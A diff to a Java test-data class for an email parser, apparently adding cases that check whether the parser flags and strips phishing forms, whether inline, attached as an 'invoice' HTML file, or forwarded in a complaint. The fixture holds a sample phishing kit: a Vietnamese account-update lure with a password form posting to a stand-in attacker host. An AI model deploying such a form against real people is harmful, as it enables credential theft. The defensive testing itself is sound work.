@@ -28,7 +28,7 @@ final class FileRows {
     private FileRows() {}
 
     static Stream<Row> all() {
-        return Stream.of(names(), outlook(), insideMails(), dangerous(), pages(), media(), sealed())
+        return Stream.of(names(), outlook(), insideMails(), dangerous(), phishing(), pages(), media(), sealed())
                 .flatMap(s -> s);
     }
 
@@ -216,6 +216,34 @@ final class FileRows {
                             assertThat(m.text()).isEqualTo(STORY);
                             assertThat(m.html()).isEmpty();
                             file(m, 0, f.getKey(), f.getValue());
+                        }));
+    }
+
+    private static Stream<Row> phishing() {
+        String kit = "<p>Xin cap nhat tai khoan</p><form method=post action='https://evil.example/x'>"
+                + "<input name=u><input type=password name=p></form>";
+        return Stream.of(
+                Row.ok("M79", "a form that wants a password", mail(htmlPart(kit)), m -> {
+                    assertThat(m.suspect()).contains("password-form");
+                    assertThat(m.html()).doesNotContain("form", "evil");
+                }),
+                Row.ok(
+                        "M79",
+                        "the same as a file",
+                        multipart(
+                                "mixed", storyPart(), filePart("application/octet-stream", "hoa don.HTM", bytes(kit))),
+                        m -> {
+                            assertThat(m.suspect()).contains("password-form");
+                            assertThat(m.text()).isEqualTo(STORY);
+                            file(m, 0, "hoa don.HTM", bytes(kit));
+                        }),
+                Row.ok(
+                        "M79",
+                        "passed on by somebody who complains of it",
+                        multipart("mixed", storyPart(), attached("", mail(htmlPart(kit)))),
+                        m -> {
+                            assertThat(m.suspect()).isEmpty();
+                            assertThat(m.text()).isEqualTo(STORY);
                         }));
     }
 
